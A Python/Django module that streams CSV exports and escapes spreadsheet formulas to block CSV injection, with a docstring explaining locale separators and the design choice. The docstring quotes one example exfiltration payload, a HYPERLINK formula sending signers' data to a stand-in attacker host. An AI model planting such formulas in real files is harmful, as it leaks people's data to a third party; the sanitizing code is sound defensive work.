"""CSV files that spreadsheets open as data, never as formulas, streamed row by row.

A cell starting with =, +, -, @, a tab or a carriage return is read by
spreadsheet programs as a formula (CSV injection): a signer could type
`=HYPERLINK("https://evil.example/?"&A2, "click")` as their name and have the
organiser's spreadsheet send other signers' data away. A leading single quote
makes such a cell plain text, as OWASP recommends.

The start of the cell is not the only start. Excel splits a CSV file on the
list separator of the computer's locale (a semicolon in much of Europe), and
LibreOffice and Excel's import dialogs offer comma, semicolon, tab, space and
more: opened that way, `Ann;=1+1` is two cells, `Ann` and the formula `=1+1`,
whatever quoting the file uses, since the file's own delimiter is a comma.
So every formula start at the start of the cell or after a character a
spreadsheet may split on (comma, semicolon, pipe, tab, space, a line break),
after any spaces or double quotes, gets the same quote: `Ann;'=1+1`.

Quoting every text cell instead was considered and rejected: a quote at the
start of a cell does nothing for the cell that a semicolon locale makes of
its second half, and it would put a stray `'` before every name a lawmaker
reads in the delivered list.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator

from django.http import StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The cell's start or a separator, then spaces or double quotes, then (not
# consumed) a formula's first character.
FORMULA_AHEAD = re.compile(r'((?:^|[,;|\s])[\s"]*)(?=[=+\-@])')


def escape_cell(value: object) -> str:
    """The cell's text, with a quote before every formula a spreadsheet could run."""
    text = "" if value is None else str(value)
    text = FORMULA_AHEAD.sub(r"\1'", text)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


class _Echo:
    """A file-like object whose write() hands the line back instead of storing it."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Iterable[object], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """Encode the header and each row as they come: no whole file in memory."""
    writer = csv.writer(_Echo())
    yield writer.writerow([escape_cell(cell) for cell in header])
    for row in rows:
        yield writer.writerow([escape_cell(cell) for cell in row])


def streaming_csv_response(
    filename: str, header: Iterable[object], rows: Iterable[Iterable[object]]
) -> StreamingHttpResponse:
    response = StreamingHttpResponse(
        csv_lines(header, rows), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "no-store"
    return response
